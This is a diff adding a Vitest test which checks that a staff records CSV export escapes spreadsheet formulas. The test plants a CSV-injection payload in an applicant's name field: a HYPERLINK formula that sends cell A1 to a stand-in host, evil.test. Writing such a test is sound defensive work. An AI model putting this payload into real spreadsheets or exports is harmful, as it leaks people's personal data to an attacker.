@@ -1,4 +1,6 @@
+import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { type ExportedRecord, recordsToCsv } from "../src/records/export-verification-records.ts";
 import { activeLine, somebody } from "./support/journey.ts";
 import { type StaffClient, signInAs } from "./support/staff.ts";
 import { startTestServer, type TestServer } from "./support/test-server.ts";
@@ -125,6 +127,19 @@ describe("GET /v1/staff/records", () => {
     expect(lines[0]).toMatch(/^recordId,version,reference,/);
     expect(lines.length).toBeGreaterThan(1);
     expect(lines[1]).toContain(other.reference);
+  });
+
+  it("neutralises a cell a spreadsheet would run as a formula (an applicant's kanji name, say)", async () => {
+    const found = await compliance.api("GET", `/v1/staff/records?reference=${other.reference}`);
+    const [record] = found.body.records as ExportedRecord[];
+    if (!record) throw new Error("no record");
+    const hostile = '=HYPERLINK("https://evil.test/?"&A1,"click")';
+    const csv = recordsToCsv([
+      { ...record, particulars: { ...record.particulars, name: { ...record.particulars.name, kanji: hostile } } },
+    ]);
+    const [row] = parse(csv, { columns: true }) as Record<string, string>[];
+    expect(row?.nameKanji).toBe(`'${hostile}`);
+    expect(row?.reference).toBe(other.reference);
   });
 
   it.each([
